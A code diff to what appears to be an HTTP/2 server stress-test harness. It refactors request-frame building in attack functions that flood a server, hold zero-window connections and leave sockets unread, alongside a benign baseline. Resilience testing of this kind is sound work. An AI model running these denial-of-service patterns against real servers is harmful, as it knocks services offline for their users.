@@ -240,11 +240,16 @@ def priorities(attacker):
     attacker.flood(lambda _: b"", blob, 1000)
 
 
+def lookups(attacker, streams):
+    """Whole requests, each with a stream of its own."""
+    block = hpack.Encoder().encode(attacker.head(("content-length", str(len(BODY)))))
+    return b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY) for s in streams)
+
+
 def zero_windows(attacker):
     """Clients that ask for all that they may and never open a window, so that no answer can be sent."""
     held = []
-    block = hpack.Encoder().encode(attacker.head(("content-length", str(len(BODY)))))
-    blob = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY) for s in range(1, 200, 2))
+    blob = lookups(attacker, range(1, 200, 2))
     for _ in range(HOLDING):
         sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
         if attacker.send(sock, blob, 100):
@@ -256,7 +261,6 @@ def zero_windows(attacker):
 def unread(attacker):
     """Clients with open windows that stop reading from their sockets, and go on asking."""
     held = []
-    block = hpack.Encoder().encode(attacker.head(("content-length", str(len(BODY)))))
     for _ in range(HOLDING):
         sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
         sock.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
@@ -266,8 +270,7 @@ def unread(attacker):
         for entry in list(held):
             sock, stream, rest, opened = entry
             if not rest:
-                rest = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY)
-                                for s in range(stream, stream + 40, 2))
+                rest = lookups(attacker, range(stream, stream + 40, 2))
                 entry[1] += 40
             # What is not taken comes first the next time: frames stay whole, and TLS wants the same bytes again.
             entry[2] = rest
@@ -285,8 +288,7 @@ def unread(attacker):
 
 def asking(attacker):
     """No attack: clients that ask for as much at once as those who withhold their windows, and read the answers."""
-    block = hpack.Encoder().encode(attacker.head(("content-length", str(len(BODY)))))
-    blob = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY) for s in range(1, 200, 2))
+    blob = lookups(attacker, range(1, 200, 2))
     reading = selectors.DefaultSelector()
     for _ in range(HOLDING):
         sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
